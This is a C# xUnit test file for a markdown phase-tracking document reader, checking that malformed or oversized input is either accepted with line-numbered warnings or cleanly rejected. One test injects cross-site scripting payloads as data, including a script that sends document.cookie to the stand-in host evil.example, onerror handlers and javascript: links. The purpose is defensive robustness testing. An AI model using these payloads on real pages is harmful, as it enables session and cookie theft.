using System.Text;

using PhaseTracker.Domain;
using PhaseTracker.Tracking;

namespace PhaseTracker.Tests.Tracking;

/// <summary>
/// Bad input never costs data and never crashes (PRODUCT.md rule 5): each document is either accepted
/// with a warning on the right line, or rejected with one sentence and a line number. Every read runs
/// under a generous time limit so that a hang fails instead of stalling the run.
/// </summary>
public class BadInputTests
{
    private static readonly TimeSpan Limit = TimeSpan.FromSeconds(10);

    /// <summary>A small valid document; the tests below break it in one place each.</summary>
    private const string Valid =
        "# 📋 Phase 2 Tracking — Deferred Items\n" + // 1
        "\n" +
        "## Overview\n" + // 3
        "\n" +
        "**Purpose:** Track work deferred from Phase 1 to Phase 2.\n" + // 5
        "\n" +
        "**Status:** Phase 1 Complete → Phase 2 Planning\n" + // 7
        "\n" +
        "**Timeline:** Phase 2 estimated 0.6 developer-days\n" + // 9
        "\n" +
        "---\n" +
        "\n" +
        "## 🎯 Deferred Items from Phase 1\n" + // 13
        "\n" +
        "### 1. Load Testing Suite\n" + // 15
        "\n" +
        "**Status:** ❌ **Not Started**\n" + // 17
        "\n" +
        "**Estimated Effort:** 3 hours\n" + // 19
        "\n" +
        "**Priority:** P1 (High)\n" + // 21
        "\n" +
        "**Owner:** Backend Team\n" + // 23
        "\n" +
        "---\n" +
        "\n" +
        "### 2. Bundle Analysis\n" + // 27
        "\n" +
        "**Estimated Effort:** 2 hours\n" + // 29
        "\n" +
        "**Priority:** P2 (Medium)\n" + // 31
        "\n" +
        "**Owner:** DevOps\n" + // 33
        "\n" +
        "---\n" +
        "\n" +
        "## 📊 Phase 2 Priority Matrix\n" + // 37
        "\n" +
        "| Item | Priority | Effort | Impact | Phase | Owner |\n" + // 39
        "|------|----------|--------|--------|-------|-------|\n" +
        "| Load Testing | P1 | 3h | High | 2 | Backend |\n" + // 41
        "| Bundle Analysis | P2 | 2h | Medium | 2 | DevOps |\n" + // 42
        "\n" +
        "**Total Phase 2 Effort:** 5 hours (~0.6 developer-days)\n" + // 44
        "\n" +
        "---\n" +
        "\n" +
        "**Last Updated:** November 12, 2025  \n" + // 48
        "**Version:** 1.0  \n" +
        "**Status:** Phase 2 Planning\n";

    [Fact]
    public async Task The_valid_base_document_is_accepted_without_warnings()
    {
        var result = await ReadGuarded(Valid);

        Assert.True(result.Accepted, result.Rejection?.ToString());
        Assert.Empty(result.Warnings);
        Assert.Equal(Valid, Documents.Export(result));
    }

    [Fact]
    public async Task Empty_file_is_rejected()
    {
        var result = await ReadGuarded([]);

        AssertRejected(result, 0, "empty");
    }

    [Theory]
    [InlineData(" ")]
    [InlineData("\n\n\n")]
    [InlineData("  \r\n\t\r\n   \n")]
    [InlineData("\uFEFF\n  \n")]
    public async Task Whitespace_only_is_rejected_as_empty(string text)
    {
        var result = await ReadGuarded(Encoding.UTF8.GetBytes(text));

        AssertRejected(result, 0, "empty");
    }

    [Fact]
    public async Task Binary_garbage_is_rejected_at_its_first_nul_byte()
    {
        var bytes = new byte[64 * 1024];
        new Random(20251112).NextBytes(bytes);
        var nul = Array.IndexOf(bytes, (byte)0);
        Assert.True(nul >= 0, "the fixed seed gives garbage with a NUL byte");
        var line = bytes.AsSpan(0, nul).Count((byte)'\n') + 1;

        var result = await ReadGuarded(bytes);

        AssertRejected(result, line, "NUL");
    }

    [Fact]
    public async Task Binary_garbage_without_nul_bytes_is_rejected_with_a_line()
    {
        var bytes = new byte[64 * 1024];
        new Random(7).NextBytes(bytes);
        for (var i = 0; i < bytes.Length; i++)
        {
            if (bytes[i] == 0)
            {
                bytes[i] = 0xFF;
            }
        }

        var result = await ReadGuarded(bytes);

        Assert.False(result.Accepted, "binary garbage was accepted as a tracking document");
        AssertOneSentence(result.Rejection!);
        Assert.True(result.Rejection!.Line >= 1, $"no line number: {result.Rejection}");
    }

    [Fact]
    public async Task Binary_garbage_after_a_valid_document_is_rejected()
    {
        var garbage = new byte[4096];
        new Random(99).NextBytes(garbage);
        var bytes = Encoding.UTF8.GetBytes(Valid).Concat(garbage).ToArray();

        var result = await ReadGuarded(bytes);

        Assert.False(result.Accepted, "binary garbage was accepted as a tracking document");
        AssertOneSentence(result.Rejection!);
        Assert.True(result.Rejection!.Line > 50, $"the line should be in the garbage: {result.Rejection}");
    }

    [Fact]
    public async Task Nul_byte_on_line_7_is_rejected_with_line_7()
    {
        var text = Valid.Replace("**Status:** Phase 1 Complete", "**Status:** Phase 1\0Complete", StringComparison.Ordinal);
        Assert.Equal(7, LineOf(text, "\0"));

        var result = await ReadGuarded(Encoding.UTF8.GetBytes(text));

        AssertRejected(result, 7, "NUL");
    }

    [Fact]
    public async Task Nul_byte_read_as_text_is_rejected_with_its_line()
    {
        var text = Valid.Replace("**Status:** Phase 1 Complete", "**Status:** Phase 1\0Complete", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        Assert.False(result.Accepted);
        AssertOneSentence(result.Rejection!);
        Assert.Equal(7, result.Rejection!.Line);
    }

    [Fact]
    public async Task Eleven_megabytes_is_rejected_and_says_10_mb()
    {
        var builder = new StringBuilder(Valid, (11 * 1024 * 1024) + 100);
        builder.Append("\n## 📝 Notes\n\n");
        while (builder.Length < 11 * 1024 * 1024)
        {
            builder.Append("- A long note that somebody pasted into the tracking document by mistake, again and again.\n");
        }

        var bytes = Encoding.UTF8.GetBytes(builder.ToString());
        Assert.True(bytes.Length > 11 * 1024 * 1024);

        var result = await ReadGuarded(bytes);

        AssertRejected(result, 0, "10 MB");
    }

    [Fact]
    public async Task Matrix_row_with_missing_cells_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace("| Load Testing | P1 | 3h | High | 2 | Backend |", "| Load Testing | P1 | 3h |", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 41, "cells");
        Assert.Equal(1, result.Phase!.MatrixRows[0].ItemNumber);
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Matrix_row_with_extra_cells_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace("| Bundle Analysis | P2 | 2h | Medium | 2 | DevOps |", "| Bundle Analysis | P2 | 2h | Medium | 2 | DevOps | Q4 | spare |", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 42, "cells");
        Assert.Equal(2, result.Phase!.MatrixRows[1].ItemNumber);
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Duplicate_item_numbers_are_rejected_at_the_second()
    {
        var text = Valid.Replace("### 2. Bundle Analysis", "### 1. Bundle Analysis", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertRejected(result, 27, "1");
        Assert.Contains("15", result.Rejection!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Priority_p7_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace("**Priority:** P2 (Medium)", "**Priority:** P7", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 31, "P7");
        Assert.Null(Documents.Item(result, 2).Priority);
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Effort_in_words_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace("**Estimated Effort:** 2 hours", "**Estimated Effort:** two hours", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 29, "two hours");
        Assert.Null(Documents.Item(result, 2).EffortHours);
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Unclosed_code_fence_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace(
            "**Last Updated:**",
            "## 🗺️ Phase 2 Roadmap\n\n### Week 1: Testing\n```\nDay 1: Load Testing Suite\n  └─→ Write the Locust script\n\n**Last Updated:**",
            StringComparison.Ordinal);
        var fence = LineOf(text, "```");

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, fence, "fence");
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Lists_nested_ten_thousand_levels_by_indentation_are_rejected()
    {
        // 10,000 levels of two-column indentation are 100 MB of spaces: refused before any parsing.
        var builder = new StringBuilder(Valid).Append("\n## 📝 Notes\n\n");
        for (var level = 0; level < 10_000; level++)
        {
            builder.Append(' ', level * 2).Append("- level ").Append(level).Append('\n');
        }

        var result = await ReadGuarded(builder.ToString());

        Assert.False(result.Accepted, "a list nested 10,000 levels deep was accepted");
        AssertOneSentence(result.Rejection!);
    }

    [Fact]
    public async Task Lists_nested_three_thousand_levels_by_indentation_under_10_mb_are_rejected_where_they_get_too_deep()
    {
        var builder = new StringBuilder(Valid).Append("\n## 📝 Notes\n\n");
        var first = Valid.Count(c => c == '\n') + 4;
        for (var level = 0; level < 3_000; level++)
        {
            builder.Append(' ', level * 2).Append("- level ").Append(level).Append('\n');
        }

        var text = builder.ToString();
        Assert.Equal(first, LineOf(text, "- level 0\n"));
        Assert.True(text.Length < TrackingDocumentReader.MaxBytes);

        var result = await ReadGuarded(text);

        Assert.False(result.Accepted, "a list nested 3,000 levels deep was accepted");
        AssertOneSentence(result.Rejection!);
        Assert.InRange(result.Rejection!.Line, first + 1, first + 127);
        Assert.Contains("nested", result.Rejection.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("- ")]
    [InlineData("* ")]
    [InlineData("1. ")]
    [InlineData("> ")]
    [InlineData(">")]
    public async Task Ten_thousand_markers_on_one_line_are_rejected_on_that_line(string marker)
    {
        var line = string.Concat(Enumerable.Repeat(marker, 10_000)) + "x";
        var text = Valid + "\n## 📝 Notes\n\n" + line + "\n";
        var number = LineOf(text, line);

        var result = await ReadGuarded(text);

        AssertRejected(result, number, "nested");
    }

    [Fact]
    public async Task Quotes_nested_deeper_line_by_line_are_rejected_where_they_get_too_deep()
    {
        var builder = new StringBuilder(Valid).Append("\n## 📝 Notes\n\n");
        var first = Valid.Count(c => c == '\n') + 4;
        for (var level = 1; level <= 4_000; level++)
        {
            builder.Append('>', level).Append(" quoted ").Append(level).Append('\n');
        }

        Assert.True(builder.Length < TrackingDocumentReader.MaxBytes);
        var result = await ReadGuarded(builder.ToString());

        Assert.False(result.Accepted, "quotes nested 4,000 levels deep were accepted");
        AssertOneSentence(result.Rejection!);
        Assert.InRange(result.Rejection!.Line, first, first + 127);
    }

    [Theory]
    [InlineData('[')]
    [InlineData('*')]
    [InlineData('`')]
    [InlineData('<')]
    public async Task Ten_thousand_inline_delimiters_do_not_hang(char delimiter)
    {
        var text = Valid.Replace("**Owner:** DevOps", "**Owner:** DevOps " + new string(delimiter, 10_000), StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        if (result.Accepted)
        {
            Assert.Equal(text, Documents.Export(result));
        }
        else
        {
            AssertOneSentence(result.Rejection!);
        }
    }

    [Fact]
    public async Task Document_without_a_title_is_rejected_at_line_1()
    {
        var text = Valid[(Valid.IndexOf('\n', StringComparison.Ordinal) + 2)..];
        Assert.StartsWith("## Overview", text, StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertRejected(result, 1, "title");
    }

    [Fact]
    public async Task Title_that_names_no_phase_is_rejected_at_its_line()
    {
        var text = "<!-- tracking -->\n\n" + Valid.Replace("# 📋 Phase 2 Tracking", "# 📋 Deferred Work Tracking", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertRejected(result, 3, "title");
    }

    [Fact]
    public async Task Hostile_document_is_accepted_and_kept_verbatim()
    {
        var text = Valid
            .Replace("# 📋 Phase 2 Tracking — Deferred Items", "# 📋 Phase 2 Tracking <script>alert('title')</script>", StringComparison.Ordinal)
            .Replace("### 1. Load Testing Suite", "### 1. Load Testing Suite <script>document.location='https://evil.example/?c='+document.cookie</script>", StringComparison.Ordinal)
            .Replace("**Owner:** Backend Team", "**Owner:** <img src=x onerror=alert(1)>", StringComparison.Ordinal)
            .Replace("**Status:** ❌ **Not Started**", "**Status:** ❌ **Not Started** ([details](javascript:alert(1)))", StringComparison.Ordinal)
            .Replace(
                "**Last Updated:**",
                "## 📚 Related Documentation\n\n- [Runbook](javascript:alert(document.domain))\n- [Audit](../AUDIT.md \"<b onmouseover=alert(1)>\")\n\n---\n\n**Last Updated:**",
                StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        Assert.True(result.Accepted, result.Rejection?.ToString());
        var phase = result.Phase!;
        Assert.Equal(2, phase.Number);
        Assert.Equal("📋 Phase 2 Tracking <script>alert('title')</script>", phase.Title);
        var item = Documents.Item(result, 1);
        Assert.Equal("Load Testing Suite <script>document.location='https://evil.example/?c='+document.cookie</script>", item.Title);
        Assert.Equal("<img src=x onerror=alert(1)>", item.Owner);
        Assert.Equal("[details](javascript:alert(1))", item.StatusNote);
        Assert.Equal(
            [("Runbook", "javascript:alert(document.domain)"), ("Audit", "../AUDIT.md")],
            phase.RelatedDocuments.Select(d => (d.Title, d.Url)));
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Negative_effort_is_accepted_with_a_warning_on_its_line()
    {
        var text = Valid.Replace("**Estimated Effort:** 2 hours", "**Estimated Effort:** -2 hours", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 29, "-2 hours");
        Assert.Equal(text, Documents.Export(result));
    }

    private const string OwnerTwice = "**Owner:** DevOps\n\n**Owner:** Platform\n";

    [Fact]
    public async Task Field_written_twice_in_one_item_is_accepted_with_a_warning_on_the_second()
    {
        var text = Valid.Replace("**Owner:** DevOps\n", OwnerTwice, StringComparison.Ordinal);
        Assert.Equal(35, LineOf(text, "**Owner:** Platform"));

        var result = await ReadGuarded(text);

        AssertAcceptedWithWarning(result, 35, "owner");
        Assert.Equal(text, Documents.Export(result));
    }

    [Fact]
    public async Task Field_written_twice_in_one_item_does_not_lose_an_edit()
    {
        var result = await ReadGuarded(Valid.Replace("**Owner:** DevOps\n", OwnerTwice, StringComparison.Ordinal));

        // Whichever of the two lines the reader takes, the writer must patch that one.
        Documents.Item(result, 2).Owner = "SRE";
        var again = await ReadGuarded(Documents.Export(result));

        Assert.Equal("SRE", Documents.Item(again, 2).Owner);
    }

    [Fact]
    public async Task Old_mac_cr_only_line_endings_round_trip_or_are_rejected()
    {
        var text = Valid.Replace("\n", "\r", StringComparison.Ordinal);

        var result = await ReadGuarded(text);

        if (result.Accepted)
        {
            Assert.Equal("📋 Phase 2 Tracking — Deferred Items", result.Phase!.Title);
            Assert.Equal([1, 2], result.Phase.Items.Select(i => i.Number));
            Assert.Equal(text, Documents.Export(result));
        }
        else
        {
            AssertOneSentence(result.Rejection!);
        }
    }

    [Fact]
    public async Task Utf16_document_is_read_or_rejected_naming_its_encoding()
    {
        var bytes = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(Valid)).ToArray();

        var result = await ReadGuarded(bytes);

        if (result.Accepted)
        {
            Assert.Equal([1, 2], result.Phase!.Items.Select(i => i.Number));
        }
        else
        {
            AssertOneSentence(result.Rejection!);
            Assert.Contains("UTF-16", result.Rejection!.Message, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task Invalid_utf8_bytes_are_accepted_or_rejected_never_thrown()
    {
        var bytes = Encoding.UTF8.GetBytes(Valid.Replace("**Owner:** DevOps", "**Owner:** Dev\u0001Ops", StringComparison.Ordinal));
        var at = Array.IndexOf(bytes, (byte)1);
        bytes[at] = 0xFF;

        var result = await ReadGuarded(bytes);

        if (result.Accepted)
        {
            Assert.Contains(result.Warnings, w => w.Line == 33);
            Assert.DoesNotContain('\uFFFD', Documents.Item(result, 1).Owner ?? "");
        }
        else
        {
            AssertOneSentence(result.Rejection!);
            Assert.Equal(33, result.Rejection!.Line);
        }
    }

    // ---------------------------------------------------------------- helpers

    private static async Task<ReadResult> ReadGuarded(byte[] bytes) =>
        await Task.Run(() => TrackingDocumentReader.Read(bytes)).WaitAsync(Limit);

    private static async Task<ReadResult> ReadGuarded(string text) =>
        await Task.Run(() => TrackingDocumentReader.Read(Encoding.UTF8.GetBytes(text))).WaitAsync(Limit);

    private static int LineOf(string text, string part)
    {
        var index = text.IndexOf(part, StringComparison.Ordinal);
        Assert.True(index >= 0, $"the test document lacks {part}");
        return text.AsSpan(0, index).Count('\n') + 1;
    }

    private static void AssertRejected(ReadResult result, int line, string mentions)
    {
        Assert.False(result.Accepted, "the document was accepted");
        var rejection = result.Rejection!;
        AssertOneSentence(rejection);
        Assert.Equal(line, rejection.Line);
        Assert.Contains(mentions, rejection.Message, StringComparison.OrdinalIgnoreCase);
        Assert.Null(result.Phase);
    }

    private static void AssertOneSentence(DocumentRejection rejection)
    {
        var message = rejection.Message;
        Assert.False(string.IsNullOrWhiteSpace(message));
        Assert.True(message.Length < 300, $"not one sentence: {message}");
        Assert.DoesNotContain('\n', message);
        Assert.DoesNotContain("Exception", message, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", message, StringComparison.Ordinal);
        Assert.EndsWith(".", message, StringComparison.Ordinal);
    }

    private static void AssertAcceptedWithWarning(ReadResult result, int line, string mentions)
    {
        Assert.True(result.Accepted, result.Rejection?.ToString());
        var warnings = result.Warnings.Where(w => w.Kind == WarningKind.Warning).ToList();
        Assert.True(
            warnings.Any(w => w.Line == line && w.Message.Contains(mentions, StringComparison.OrdinalIgnoreCase)),
            $"no warning on line {line} mentioning \"{mentions}\"; the warnings are:\n{string.Join('\n', warnings)}");
    }
}
